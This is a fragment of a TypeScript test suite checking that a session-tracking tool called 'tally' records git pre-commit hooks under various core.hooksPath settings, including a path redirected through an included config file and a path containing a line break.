    const hooks = join(p.dir, 'shared-hooks');
    mkdirSync(hooks);
    git(p.root, 'config', 'core.hooksPath', hooks);
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(join(hooks, 'pre-commit'), hook(join(p.dir, 'ran')), { mode: 0o755 });
    });
    assertRan(p, rows, pkg, join(hooks, 'pre-commit'));
  });

  it('a folder in .git beside hooks/, named relative to the tree', async () => {
    const p = makeProject('tally-hooks-path-dotgit-');
    mkdirSync(join(p.root, '.git', 'myhooks'));
    git(p.root, 'config', 'core.hooksPath', '.git/myhooks');
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(join(p.root, '.git', 'myhooks', 'pre-commit'), hook(join(p.dir, 'ran')), { mode: 0o755 });
    });
    assertRan(p, rows, pkg, join(p.root, '.git', 'myhooks', 'pre-commit'));
  });

  it('a folder of the tree its own .gitignore hides (husky)', async () => {
    const p = makeProject('tally-hooks-path-husky-');
    mkdirSync(join(p.root, '.husky', '_'), { recursive: true });
    writeFileSync(join(p.root, '.husky', '_', '.gitignore'), '*\n');
    git(p.root, 'config', 'core.hooksPath', '.husky/_');
    const { rows, pkg } = await session(p, p.root, () => {
      writeFileSync(join(p.root, '.husky', '_', 'pre-commit'), hook(join(p.dir, 'ran')), { mode: 0o755 });
    });
    assertRan(p, rows, pkg, join(p.root, '.husky', '_', 'pre-commit'));
  });

  it('moved during the session by a file the config includes: the hooks git runs now are rows', async () => {
    const p = makeProject('tally-hooks-path-include-');
    writeFileSync(join(p.root, '.git', 'extra.cfg'), '[user]\n\tname = x\n');
    git(p.root, 'config', 'include.path', 'extra.cfg');
    const evil = join(p.dir, 'evil');
    mkdirSync(evil);
    writeFileSync(join(evil, 'pre-commit'), hook(join(p.dir, 'ran')), { mode: 0o755 });
    const { rows, pkg } = await session(p, p.root, () => {
      appendFileSync(join(p.root, '.git', 'extra.cfg'), `[core]\n\thooksPath = ${evil}\n`);
    });
    assertRan(p, rows, pkg, join(evil, 'pre-commit'));
  });

  it('named with a line end in it, which git prints as it is: the folder cannot be told, and the pass fails', async () => {
    const p = makeProject('tally-hooks-path-line-end-');
    const hooks = join(p.dir, 'a\nb');
    mkdirSync(hooks);
    git(p.root, 'config', 'core.hooksPath', hooks);
    assert.equal((await p.tally(['init'])).code, 0);
    assert.equal((await p.tally(['session', 'start', '--json'])).code, 0);
    writeFileSync(join(hooks, 'pre-commit'), hook(join(p.dir, 'ran')), { mode: 0o755 });
    const closed = await p.tally(['session', 'close', '--json']);
    assert.equal(closed.code, 0, closed.stderr);
    const verified = await p.tally(['verify', String(jsonOut(closed).package), '--json']);
    const checks = jsonOut(verified).checks as { check: string; ok: boolean; code: string }[];
    const reconciled = checks.find((c) => c.check === 'workspace_reconciled');
    assert.deepEqual([reconciled?.ok, reconciled?.code], [false, 'unreadable']);
    assert.match(JSON.stringify(reconciled), /hooks-path-unread.*"\.git\/hooks-path"/);
  });
});
